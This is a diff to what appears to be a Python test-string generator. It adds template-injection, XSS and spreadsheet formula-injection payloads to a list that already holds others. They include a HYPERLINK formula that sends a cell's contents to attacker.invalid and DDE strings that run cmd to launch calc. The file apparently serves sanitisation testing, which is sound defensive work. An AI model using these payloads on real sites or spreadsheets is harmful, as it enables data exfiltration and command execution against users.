@@ -47,8 +47,15 @@ FORMS = (
     "<form action=https://attacker.invalid><button>x",
     "<link rel=stylesheet href=https://attacker.invalid/x.css>",
     "*|<object data='javascript:{run}'>",
+    "{{{{constructor.constructor('{run}')()}}}}",
+    "<details open ontoggle={run}>",
+    '=HYPERLINK("https://attacker.invalid/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
 )
-WRAPS = ("{}", "PT {}", "{} TPPO", "“{}”", "{}\n{}", "  {}  ", "Kab. {}; {}")
+WRAPS = ("{}", "PT {}", "“{}”", "{}\n{}", "  {}  ")
 STRINGS = [wrap.replace("{}", form.format(run=RUN)) for form, wrap in product(FORMS, WRAPS)][:200]
 
 
